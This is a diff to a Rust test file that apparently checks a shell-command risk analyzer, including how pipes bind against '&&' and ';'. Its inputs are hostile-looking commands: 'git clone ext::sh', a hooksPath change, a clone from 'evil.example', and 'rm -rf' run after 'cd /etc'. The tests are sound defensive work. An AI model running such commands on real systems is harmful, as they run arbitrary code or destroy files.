@@ -342,7 +342,9 @@ fn bypass_27_no_program_is_safe_without_its_arguments() {
     opaque("git config core.hooksPath /tmp");
     opaque("git clone ext::sh");
     finds("git clone https://evil.example/x", "host evil.example");
-    opaque("git unheard-of");
+    finds("git unheard-of", "git, ExecuteCode, Indefinite");
+    opaque("git unheard-of delete");
+    opaque("git deploy x");
     check("git checkout -b x", "git checkout");
     check("git restore --staged src", "git restore");
     quiet("git config user.name me");
@@ -722,6 +724,15 @@ fn processes() {
         let found = lines(text);
         assert!(!found.contains("Power") && !found.contains('?'), "{text}: {found}");
     }
+}
+
+/// `|` binds tighter than `&&`, also behind a redirection.
+#[test]
+fn pipes_bind_tighter_than_lists() {
+    finds("cd /etc && ls $x 2>&1 | cat; rm -rf y", "rm, delete /etc/y and below");
+    finds("cd /etc && ls 2>&1 | cat; rm -rf y", "rm, delete /etc/y and below");
+    finds("ls | cat && cd /etc > z; rm -rf y", "rm, delete /etc/y and below");
+    finds("cd sub | cat; rm -rf y", "rm, delete /w/y and below");
 }
 
 /// A list of any length costs the same for each of its parts.
